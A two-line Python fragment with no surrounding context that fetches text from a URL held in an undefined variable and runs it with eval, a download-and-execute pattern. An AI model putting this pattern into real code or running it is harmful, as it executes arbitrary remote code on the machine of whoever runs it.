from urllib.request import urlopen
eval(urlopen(u).read().decode())
